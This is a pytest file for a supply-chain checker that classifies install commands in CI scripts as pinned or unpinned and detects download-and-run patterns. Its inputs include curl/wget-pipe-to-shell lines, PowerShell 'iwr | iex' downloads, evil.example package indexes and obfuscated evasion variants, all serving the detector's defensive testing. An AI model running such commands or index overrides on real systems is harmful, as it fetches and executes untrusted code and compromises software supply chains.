"""Install commands in shell scripts (checker/manifests/install_commands.py and its helpers): which commands
install, what they name, and whether they are pinned. Scorecard's unit tests
(checks/raw/shell_download_validate_test.go) are ported where they apply; the attacker variants of issue 16
follow."""

from __future__ import annotations

import pytest

from checker.manifests import downloads, install_commands
from checker.model import InstallCommand

HASH = "--hash=sha256:" + "0" * 64
FILES = {
    "requirements.txt": f"a==1.0 {HASH}\n",
    "requirements/ci.txt": "litellm==1.82.6\n",
    "ci-deps.list": "evil-package\n",
    "web/package.json": '{"devDependencies": {"eslint": "9.0.0"}}',
    ".yarnrc.yml": "nodeLinker: node-modules\n",
}


def scan(script: str, kind: str = "sh", env: dict | None = None, ci: bool = True, workdir: str | None = "",
         files: dict | None = None) -> install_commands.Collected:
    table = FILES if files is None else files
    context = install_commands.Context(path=".github/workflows/ci.yml", scope="build", read=table.get,
                                       workdir=workdir, env=env or {}, ci=ci)
    out = install_commands.Collected()
    install_commands.scan(script, 1, context, out, kind)
    return out


def judged(script: str, **kwargs) -> list[tuple[str, bool]]:  # type: ignore[no-untyped-def]
    """(tool, pinned) of each install command."""
    return [(c.tool, c.problem is None) for c in scan(script, **kwargs).commands]


def one(script: str, **kwargs) -> InstallCommand:  # type: ignore[no-untyped-def]
    found = scan(script, **kwargs).commands
    assert len(found) == 1, found
    return found[0]


def pinned(script: str, **kwargs) -> bool:  # type: ignore[no-untyped-def]
    return one(script, **kwargs).problem is None


# --- pip (Scorecard: isPipInstall / isUnpinnedPipInstall, testdata/script-pkg-managers) -------------------------


@pytest.mark.parametrize("script", [
    "pip install somepkg", "pip3 install somepkg==1.2.3", "/bin/pip3 install -X -H somepkg", "pip install",
    "pip3 install", "/bin/pip install -U", "pip install -r any_file", "python -m pip install 'some-pkg>1.2.3'",
    "python -m pip install bla.whl 'some-pkg>1.2.3'", "python2.7 -m pip install -X -H somepkg 'some-ther==1.2.3'",
    "pip install --no-deps -e git+https://github.com/username/repo.git",
    "pip install --no-deps -e git+https://github.com/username/repo.git@v1.0#egg=package",
    "pip install -e git+https://github.com/username/repo.git@0123456789abcdef0123456789abcdef01234567#egg=package",
    "pip install --no-deps -e hg+https://github.com/username/repo.git@0123456789abcdef0123456789abcdef01234567",
    "pip install --no-deps -e . git+https://github.com/username/repo.git",
    # Stricter than Scorecard: a local wheel's dependencies come from the index unless --no-deps.
    "python -m pip install bla.whl",
    "pip install -r requirements/ci.txt",
    "uv pip install -r requirements.txt",
    "pip install --index-url https://pypi.org/simple --require-hashes -r requirements.txt --trusted-host pypi.org",
])
def test_pip_unpinned(script: str) -> None:
    assert not pinned(script)


@pytest.mark.parametrize("script", [
    "pip3 install -r bla-requirements.txt --require-hashes", "pip3 install --require-hashes -r bla-requirements.txt",
    "pip install --no-deps --editable .", "pip install --no-deps -e .",
    "pip install --no-deps -e git+https://github.com/username/repo.git@0123456789abcdef0123456789abcdef01234567",
    "pip install --no-deps -e git+ssh://github.com/username/repo.git@0123456789abcdef0123456789abcdef01234567#egg=p",
    "python -m pip install --no-deps -e git+https://github.com/u/r.git@0123456789abcdef0123456789abcdef01234567",
    "pip install -r requirements.txt",  # the file has --hash entries: pip's hash-checking mode
    "pip install --require-h -r x.txt",  # optparse: a unique prefix is the option
    "python3 -m pip install --no-deps ./dist/pkg-1.0-py3-none-any.whl",
    "uv pip install --require-hashes -r requirements.txt", "uv sync --locked", "uv sync --frozen",
])
def test_pip_pinned(script: str) -> None:
    assert pinned(script)


def test_pip_names_its_packages_as_dependencies() -> None:
    out = scan("pip install 'litellm==1.82.6' requests --index-url https://mirror.example/simple")
    assert [(d.ecosystem, d.name, d.version, d.source.url, d.line, d.scope) for d in out.dependencies] == [
        ("pypi", "litellm", "1.82.6", "https://mirror.example/simple", 1, "build"),
        ("pypi", "requests", None, "https://mirror.example/simple", 1, "build"),
    ]
    assert [(i.kind, i.value) for i in out.indexes] == [("index-url", "https://mirror.example/simple")]


def test_a_requirements_file_that_is_no_manifest_by_name_is_read_into_the_command() -> None:
    out = scan("pip install -r ci-deps.list")
    assert [(d.name, d.line) for d in out.dependencies] == [("evil-package", 1)]
    assert out.includes == ["ci-deps.list"]
    assert "no --hash entries" in (out.commands[0].problem or "")


def test_requirements_files_follow_the_working_directory() -> None:
    assert pinned("pip install -r ../requirements.txt", workdir="docs")
    assert not pinned("pip install -r requirements.txt", workdir=None)  # inside an image: not read


def test_registry_flags_are_problems_and_indexes() -> None:
    command = one("pip install --require-hashes -r requirements.txt --trusted-host evil.example "
                  "--extra-index-url http://evil.example/simple")
    assert "--trusted-host evil.example turns off TLS" in (command.problem or "")
    assert "plain HTTP" in (command.problem or "")
    assert "turns off TLS" in (one("npm ci --strict-ssl=false").problem or "")
    out = scan("npm install --registry=https://npm.evil.example left-pad")
    assert [(i.kind, i.value) for i in out.indexes] == [("registry", "https://npm.evil.example")]
    assert out.dependencies[0].source.url == "https://npm.evil.example"


def test_pip_with_the_environment_requiring_hashes() -> None:
    assert pinned("pip install -r x.txt", env={"PIP_REQUIRE_HASHES": "1"})


# --- npm and friends (Scorecard: isNpmDownload / isNpmUnpinnedDownload) ---------------------------------------


@pytest.mark.parametrize("script, expected", [
    ("npm install", False), ("npm ci", True), ("npm install typescript", False), ("npm install -g typescript", False),
    ("npm i typescript", False), ("npm add typescript", False), ("npm i", False), ("npm install-test", False),
    ("npm install github:nodeca/js-yaml#2cef47bebf60da141b78b085f3dea3b5733dcc12", True),
    ("npm install git:nodeca/js-yaml#2cef47bebf60da141b78b085f3dea3b5733dcc12", False),
    ("npm install http://nodeca/js-yaml#2cef47bebf60da141b78b085f3dea3b5733dcc12", False),
    ("npm install https://nodeca/js-yaml#2cef47bebf60da141b78b085f3dea3b5733dcc12", False),
    ("npm install githu:nodeca/js-yaml#2cef47bebf60da141b78b085f3dea3b5733dcc12", False),
    ("npm install github:nodeca/js-yaml#2cef47bebf60d", False),
    ("npm clean-install", True), ("npm --prefix web ci", True), ("npm update", False),
    ("npm init vite@5.0.0", False), ("npm exec cowsay", False), ("npx cowsay@1.6.0", False),
    ("npx --no-install eslint", None), ("yarn", False), ("yarn install --frozen-lockfile", True),
    ("yarn install --immutable", True), ("yarn add left-pad", False), ("yarn global add x", False),
    ("yarn dlx create-thing", False), ("pnpm install --frozen-lockfile", True), ("pnpm add x", False),
    ("pnpm dlx x", False), ("pnpx x", False), ("bun install", False), ("bun ci", True),
    ("bun install --frozen-lockfile", True), ("bun add x", False), ("bunx x", False),
    ("corepack prepare pnpm@9.1.0 --activate", False),
    ("corepack use pnpm@9.1.0+sha512." + "a" * 128, True),
])
def test_javascript_package_managers(script: str, expected: bool | None) -> None:
    found = judged(script, ci=False, files={})
    if expected is None:
        assert found == []
    else:
        assert found and found[0][1] is expected, found


def test_ci_defaults_of_pnpm_and_yarn_berry() -> None:
    assert pinned("pnpm install", ci=True)
    assert not pinned("pnpm install", ci=False)
    assert not pinned("pnpm install --no-frozen-lockfile", ci=True)
    assert not pinned("pnpm install", ci=True, env={"CI": "false"})
    assert pinned("yarn install", ci=True)  # .yarnrc.yml: Yarn 2+, immutable in CI
    assert not pinned("yarn install", ci=True, files={})


def test_npx_of_a_declared_dependency_runs_the_locked_copy() -> None:
    assert pinned("npx eslint .", workdir="web")
    assert not pinned("npx eslint .", workdir="")
    assert not pinned("npx eslint@latest .", workdir="web")


def test_npm_names_its_packages() -> None:
    out = scan("npm install -g typescript@5.4.2 @scope/pkg@^1.0.0 github:a/b#" + "c" * 40)
    assert [(d.ecosystem, d.name, d.version, d.source.kind) for d in out.dependencies] == [
        ("npm", "typescript", "5.4.2", "registry"), ("npm", "@scope/pkg", None, "registry"),
        ("npm", "github:a/b", None, "git"),
    ]


# --- go (Scorecard: isGoUnpinnedDownload, script-pkg-managers) --------------------------------------------------


@pytest.mark.parametrize("script, expected", [
    ("go get github.com/ossf/scorecard", False), ("go get github.com/org/name@some_tag", False),
    ("go install github.com/org/name@some_tag", False), ("/bin/go install github.com/org/name@some_tag", False),
    ("go get github.com/org/name@1111111111ccccccccccaaaaaaaaaa9999999999", True),
    ("go get somerepo.com/org/name@v1.2.3", True), ("go get somerepo.com/org/name@v1.2.3-semver", True),
    ("go get somerepo.com/org/name@v1.2.3-semver+great", True),
    ("go get -insecure somerepo.com/org/name@v1.2.3", False), ("go get somerepo.com/org/name@v1", False),
    ("go get somerepo.com/org/name@v1.2", False), ("go get somerepo.com/org/name@none", True),
    ("go get somerepo.com/org/name@latest", False), ("go get somerepo.com/org/name@patch", False),
    ("go run golang.org/x/tools/cmd/stringer@latest", False), ("go run golang.org/x/tools/cmd/stringer@v0.20.0", True),
])
def test_go(script: str, expected: bool) -> None:
    assert pinned(script) is expected


@pytest.mark.parametrize("script", ["go get -d -v", "go install", "go get local-folder", "go get ./local-folder",
                                    "go get ../../some/local/folder", "go mod download", "go build -a bla",
                                    "go run ./cmd/tool"])
def test_go_local_is_no_install(script: str) -> None:
    assert scan(script).commands == []


def test_go_checksum_database_turned_off() -> None:
    assert not pinned("go install golang.org/x/tools/gopls@v0.15.0", env={"GOSUMDB": "off"})
    assert not pinned("GONOSUMDB=golang.org go install golang.org/x/tools/gopls@v0.15.0")
    assert not pinned("GOFLAGS=-insecure go install golang.org/x/tools/gopls@v0.15.0")


# --- cargo, gem ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("script, expected", [
    ("cargo install ripgrep", False), ("cargo install ripgrep --version 14.1.0", False),
    ("cargo install ripgrep --version 14.1.0 --locked", True), ("cargo install ripgrep@14.1.0 --locked", True),
    ("cargo install ripgrep --version ^14 --locked", False),
    ("cargo install --git https://github.com/a/b --rev " + "d" * 40 + " --locked", True),
    ("cargo install --git https://github.com/a/b --branch main --locked", False),
    ("cargo binstall ripgrep", False), ("gem install bundler", False), ("gem install bundler -v 2.5.0", False),
])
def test_cargo_and_gem(script: str, expected: bool) -> None:
    assert pinned(script) is expected


def test_gem_and_cargo_dependencies() -> None:
    out = scan("gem install rails:7.1.3 && cargo install ripgrep@14.1.0 --locked")
    assert [(d.ecosystem, d.name, d.version) for d in out.dependencies] == [("gem", "rails", "7.1.3"),
                                                                             ("cargo", "ripgrep", "14.1.0")]


# --- NuGet and Chocolatey (Scorecard: Test_isDotNetUnpinnedDownload, isChocoUnpinnedDownload) -------------------


@pytest.mark.parametrize("script, expected", [
    ("nuget install Newtonsoft.Json", False), ("nuget.exe install Newtonsoft.Json", False),
    ("nuget restore", False), ("nuget.exe restore", False), ("msbuild /t:restore", False),
    ("msbuild.exe /t:restore", False), ("nuget restore -LockedMode", True), ("nuget.exe restore -LockedMode", True),
    ("msbuild /t:restore /p:RestoreLockedMode=true", True), ("msbuild.exe /t:restore /p:RestoreLockedMode=true", True),
    ("dotnet restore", False), ("dotnet.exe restore", False), ("dotnet restore --locked-mode", True),
    ("nuget install Newtonsoft.Json -Version 2", True), ("nuget install config\\\\packages.config", True),
    ("dotnet add package Newtonsoft.Json", False), ("dotnet add project1 package Newtonsoft.Json", False),
    ("dotnet add package Newtonsoft.Json -v 2.0", True), ("dotnet add package Newtonsoft.Json --version 2.0", True),
    ("dotnet add project1 package Newtonsoft.Json -v 2.0", True), ("dotnet tool install -g dotnet-ef", False),
    ("dotnet tool install -g dotnet-ef --version 8.0.0", True),
    ("choco install 'some-package'", False), ("choco install --requirechecksum 'some-package'", True),
    ("choco install --requirechecksums 'some-package'", True), ("choco install --require-checksums x", True),
])
def test_windows_package_managers(script: str, expected: bool) -> None:
    assert pinned(script) is expected


@pytest.mark.parametrize("script", ["dotnet add project1 reference OtherProject", "dotnet build"])
def test_dotnet_commands_that_install_nothing(script: str) -> None:
    assert scan(script).commands == []


# --- downloads (Scorecard: Test_hasUnpinnedURLs and the curl|sh testdata) ---------------------------------------


@pytest.mark.parametrize("url, expected", [
    ("https://dot.net/v1/dotnet-install.sh", False), ("https://raw.githubusercontent.com", False),
    ("https://raw.githubusercontent.com/dotnet/install-scripts", False),
    ("https://raw.githubusercontent.com/dotnet/install-scripts/main/src/dotnet-install.sh", False),
    ("https://raw.githubusercontent.com/dotnet/install-scripts/zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz/src/x.sh", False),
    ("https://raw.githubusercontent.com/dotnet/install-scripts/5b142a1e445a6f060d6430b661408989e9580b85", False),
    ("https://raw.githubusercontent.com/dotnet/install-scripts/5b142a1e445a6f060d6430b661408989e9580b85/src/x.sh",
     True),
    ("http://raw.githubusercontent.com/dotnet/install-scripts/5b142a1e445a6f060d6430b661408989e9580b85/src/x.sh",
     False),
    ("https://github.com/dotnet/install-scripts/blob/5b142a1e445a6f060d6430b661408989e9580b85/src/x.sh", False),
])
def test_pinned_urls(url: str, expected: bool) -> None:
    assert downloads.pinned_url(url) is expected
    assert pinned(f"curl -sSL '{url}' | bash") is expected
    assert pinned(f'wget -O - "{url}" | /bin/sh') is expected


@pytest.mark.parametrize("script", [
    "curl -sSL https://x.example/i.sh | sh", "curl -s https://x.example/i.sh | sudo bash",
    "curl https://x.example/i.sh | sudo -E bash -s -- --flag", "curl https://x.example/i.sh | env A=1 bash",
    "sudo curl -s https://x.example/i.sh | bash | tee log", "wget -qO- https://x.example/i.sh | sh",
    "wget -O- https://x.example/i.sh | python3 -", "curl https://x.example/i.sh | tee /tmp/x | sh",
    "bash <(curl -s https://x.example/i.sh)", "bash -c \"$(curl -fsSL https://x.example/i.sh)\"",
    "sh -c \"`wget -qO- https://x.example/i.sh`\"", "eval \"$(curl -fsSL https://x.example/i.sh)\"",
    "python -c \"$(curl -fsSL https://x.example/i.py)\"", "source <(curl -s https://x.example/env)",
    ". <(curl -s https://x.example/env)", "bash < <(curl -s https://x.example/i.sh)",
    "bash <<< \"$(curl -s https://x.example/i.sh)\"", "sudo su -c \"bash <(curl -s https://x.example/i.sh)\" root",
    "curl -o x.sh https://x.example/x.sh && bash x.sh", "curl -fsSLO https://x.example/inst.sh; chmod +x inst.sh; "
    "./inst.sh", "curl https://x.example/x > /tmp/x && /tmp/x", "wget https://x.example/x.sh && sh ./x.sh",
    "wget -P /opt https://x.example/run.sh && bash /opt/run.sh", "curl -o \"$TMP/x.sh\" $URL; bash \"$TMP/x.sh\"",
    "gsutil cp gs://bucket/x.sh /tmp/x.sh && bash /tmp/x.sh",
    "aws s3 cp s3://bucket/x.sh . && bash ./x.sh", "perl <(curl -s https://x.example/x.pl)",
])
def test_download_and_run(script: str) -> None:
    found = scan(script).commands
    assert [c.tool for c in found] == ["curl|sh"] and found[0].problem is not None, found


@pytest.mark.parametrize("script", [
    "curl -s https://x.example/data.json | jq .", "wget https://x.example/file.tar.gz", "curl | echo",
    "curl -o x.sh https://x.example/x.sh && cat x.sh", "bash somescript.sh", "wget program",
])
def test_downloads_that_do_not_run(script: str) -> None:
    assert scan(script).commands == []


def test_a_downloaded_script_is_a_url_dependency() -> None:
    out = scan("curl -fsSL https://get.example.sh | sh")
    assert [(d.ecosystem, d.name, d.version, d.line) for d in out.dependencies] == [
        ("url", "https://get.example.sh", None, 1)]


def test_a_download_is_followed_across_the_scans_of_one_collection() -> None:
    context = install_commands.Context(path="w.yml", scope="build", read={}.get)
    out = install_commands.Collected()
    install_commands.scan("wget http://x.example/exe -O /tmp/exe", 1, context, out)
    install_commands.scan("/tmp/exe", 5, context, out)
    assert [(c.tool, c.line) for c in out.commands] == [("curl|sh", 5)]


# --- attacker variants (issue 16) --------------------------------------------------------------------------------


@pytest.mark.parametrize("script", [
    "pip  install litellm", "pip3 install litellm", "pip3.12 install litellm", "python -m pip install litellm",
    "python3 -m pip install litellm", "python3.12 -m pip install litellm", "py -m pip install litellm",
    "python -I -m pip install litellm", "python -mpip install litellm", '"pip" install litellm',
    "p\\ip install litellm", "'p'ip install litellm", "$'\\x70ip' install litellm", "PIP install litellm",
    "/usr/bin/pip install litellm", "pip.exe install litellm", '"$VENV/bin/pip" install litellm',
    "sudo pip install litellm", "sudo -H -u root pip install litellm", "env PIP_NO_CACHE_DIR=1 pip install litellm",
    "time pip install litellm", "nice -n 5 pip install litellm", "timeout 60 pip install litellm",
    "command pip install litellm", "exec pip install litellm", "xargs pip install < list",
    "echo litellm | xargs -n1 pip install", "pip install \\\n  litellm", "pip --disable-pip-version-check install x",
    "pip -q install litellm", "pip install --upgrade litellm", "pip install -Ur requirements/ci.txt litellm",
    "pip install litellm --pre", "bash -c 'pip install litellm'", "sh -ec \"pip install litellm\"",
    "bash -lc 'cd x && pip install litellm'", "eval 'pip install litellm'", "eval pip install litellm",
    "alias p=pip\np install litellm", "alias i='pip install'\ni litellm",
    "f() { pip install \"$@\"; }\nf litellm", "function g { pip install litellm; }",
    "if true; then pip install litellm; fi", "(pip install litellm)", "{ pip install litellm; }",
    "for x in 1; do pip install litellm; done", "echo $(pip install litellm)", "x=`pip install litellm`",
    "cat <<EOF | bash\npip install litellm\nEOF", "bash <<EOF\npip install litellm\nEOF",
    "bash <<'EOF'\npip install litellm\nEOF", "cat <<EOF\n$(pip install litellm)\nEOF",
    "pip install git+https://github.com/BerriAI/litellm@main", "pip install https://evil.example/litellm.tar.gz",
    "pip install -r <(curl -s https://evil.example/req.txt)", "pip install $PKG", "pip install ${{ inputs.pkg }}",
    "pip install 'litellm==${{ inputs.version }}'", "pip install litellm==${VERSION}",
    "uv pip install litellm", "uv tool install litellm", "uvx litellm", "uv run --with litellm script.py",
    "pipx install litellm", "pipx run litellm", "python -m pipx install litellm", "python -m uv pip install litellm",
    "uv add litellm", "true && pip install litellm || false", "pip install litellm & wait",
])
def test_attacker_variants_of_an_unpinned_install(script: str) -> None:
    found = scan(script).commands
    assert found and all(c.problem is not None for c in found), found


@pytest.mark.parametrize("script", ["$(echo pip) install litellm", "$PIP install litellm", "${{ matrix.pip }} install x",
                                    "`which pip` install x", "$PYTHON -m pip install x", "\"$TOOL\" add left-pad"])
def test_a_program_decided_at_run_time_is_an_unknown_install(script: str) -> None:
    command = one(script)
    assert command.tool == "unknown" and "decided at run time" in (command.problem or "")


@pytest.mark.parametrize("script", ["$CC -o out main.c", "\"$PYTHON\" -m venv .venv", "$EDITOR file", "\"$@\""])
def test_a_program_decided_at_run_time_that_installs_nothing_is_not_reported(script: str) -> None:
    assert scan(script).commands == []


def test_an_unreadable_script_is_a_problem_and_is_still_read_word_by_word() -> None:
    out = scan("echo 'unclosed\npip install litellm")
    assert out.problems and "cannot read the shell script" in out.problems[0].message
    assert [c.tool for c in out.commands] == ["pip"]


# --- other shells -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("script", [
    "pip install litellm", "python -m pip install litellm; npm ci", "npm install -g x `\n  --force",
    "iwr https://x.example/install.ps1 | iex", "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')",
    "& ([scriptblock]::Create((irm https://x.example/i.ps1)))",
])
def test_powershell(script: str) -> None:
    found = scan(script, kind="pwsh").commands
    assert found and found[0].problem is not None, found


def test_powershell_pinned_commands() -> None:
    assert judged("npm ci; pip install --require-hashes -r requirements.txt", kind="pwsh") == [
        ("npm", True), ("pip", True)]


def test_cmd() -> None:
    assert judged("pip install x & npm ci", kind="cmd") == [("pip", False), ("npm", True)]


def test_a_shell_lockgate_does_not_read_is_a_problem_when_it_names_a_tool() -> None:
    out = scan("import subprocess\nsubprocess.run(['pip', 'install', 'litellm'])", kind="python")
    assert out.commands == [] and "python script that mentions pip" in out.problems[0].message
    assert scan("print('hello')", kind="python").problems == []


# --- registry settings in the environment -------------------------------------------------------------------------


def test_exported_registry_settings_are_config_dependencies() -> None:
    out = scan("export PIP_INDEX_URL=https://evil.example/simple\nnpm_config_registry=https://npm.evil npm ci\n"
               "PIP_EXTRA_INDEX_URL='https://a.example https://b.example' pip install --require-hashes -r r.txt")
    assert [(d.ecosystem, d.name, d.version, d.line) for d in out.dependencies] == [
        ("config", "pip.index-url", "https://evil.example/simple", 1),
        ("config", "npm.registry", "https://npm.evil", 2),
        ("config", "pip.extra-index-url", "https://a.example", 3),
        ("config", "pip.extra-index-url", "https://b.example", 3),
    ]


def test_the_programs_named_for_lazy_import_are_those_installers_judges() -> None:
    from checker.manifests import installers

    assert set(installers.handlers(None)) == install_commands._INSTALLERS


def test_index_option_kinds_are_those_registry_source_reads() -> None:
    out = scan("uv pip install --allow-insecure-host evil.example --require-hashes -r r.txt && "
               "cargo install x --registry internal --locked --version 1.0.0 && gem install y --source https://g.example")
    assert [(i.kind, i.value) for i in out.indexes] == [("trusted-host", "evil.example"),
                                                        ("source", "https://g.example")]


def test_environment_settings_keep_no_credential_and_use_registry_config_names() -> None:
    out = scan("export PIP_INDEX_URL=https://user:s3cret@mirror.example/simple NODE_TLS_REJECT_UNAUTHORIZED=0 "
               "PIP_REQUIRE_HASHES=1")
    assert [(d.name, d.version) for d in out.dependencies] == [
        ("pip.index-url", "https://mirror.example/simple"), ("node.tls-reject-unauthorized", "0"),
        ("pip.require-hashes", "1")]
